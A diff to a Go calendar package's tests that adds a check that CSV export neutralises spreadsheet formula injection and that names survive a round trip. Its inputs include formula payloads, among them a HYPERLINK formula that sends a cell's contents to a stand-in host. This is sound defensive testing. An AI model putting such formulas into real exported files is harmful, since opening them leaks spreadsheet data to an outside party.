@@ -1,6 +1,8 @@
 package calendar
 
 import (
+	"bytes"
+	"encoding/csv"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -200,4 +202,31 @@ func TestICSEventLimit(t *testing.T) {
 	}
 	_, err = ParseICS(ics(lines...))
 	require.ErrorContains(t, err, "more than 10000 special days")
+}
+
+// TestCSVExportHoldsNoFormula: a day's name is whatever its author typed;
+// in the exported file no cell starts with what a spreadsheet runs as a
+// formula, and the import reads every name back unchanged.
+func TestCSVExportHoldsNoFormula(t *testing.T) {
+	t.Parallel()
+	names := []string{`=HYPERLINK("http://example.invalid/?"&A1,"x")`, "+1", "-2", "@SUM(A1)", "'=already quoted", "'plain quote", "plain"}
+	var entries []Entry
+	for i, n := range names {
+		d, err := ParseDate(fmt.Sprintf("2026-03-%02d", i+1))
+		require.NoError(t, err)
+		entries = append(entries, Entry{Date: d, Kind: KindHoliday, Name: n})
+	}
+	out := FormatCSV(entries)
+	rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
+	require.NoError(t, err)
+	for _, r := range rows[1:] {
+		require.NotContains(t, "=+-@", r[2][:1], "cell %q starts a formula", r[2])
+	}
+	require.Equal(t, "'=HYPERLINK(", rows[1][2][:12])
+	back, err := ParseCSV(out)
+	require.NoError(t, err)
+	require.Len(t, back, len(names))
+	for i, e := range back {
+		require.Equal(t, names[i], e.Name)
+	}
 }
